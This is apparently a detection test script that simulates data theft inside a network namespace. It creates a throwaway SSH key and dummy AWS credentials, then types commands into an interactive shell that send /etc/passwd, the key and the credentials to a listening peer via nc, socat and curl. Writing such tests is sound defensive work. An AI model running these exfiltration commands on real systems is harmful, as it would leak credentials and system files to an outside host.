#!/bin/bash
# desc: secrets fed to network clients through a shell redirect, typed into an interactive shell: nc < /etc/passwd, socat < an SSH key, curl --data-binary @- < cloud credentials
# mitre: T1048, T1041, T1552.001
# expect: sensitive_file_sent_over_network*3
source "$ATTACK_LIB"
source "$(dirname "$ATTACK_LIB")/netns.sh"

netns_create
for p in 9001 9002 9003; do in_ns timeout 15 nc -l "$PEER" "$p" >/dev/null & done
wait_listen "$PEER" 9003
key=$ATTACK_HOME/.ssh/id_ed25519_$ATTACK_ID aws=$ATTACK_HOME/.aws/credentials_$ATTACK_ID
undo "rm -f '$key' '$key.pub' '$aws'"
as_user sh -c "mkdir -p ~/.ssh ~/.aws && ssh-keygen -q -t ed25519 -N '' -f '$key' &&
	printf '[default]\naws_secret_access_key = x\n' > '$aws'"
printf '%s\n' "nc -N $PEER 9001 < /etc/passwd" \
	"socat -u - TCP:$PEER:9002 < $key" \
	"curl -s -m 3 --data-binary @- http://$PEER:9003/ < $aws" exit |
	bash --norc -i >/dev/null 2>&1 || true
wait
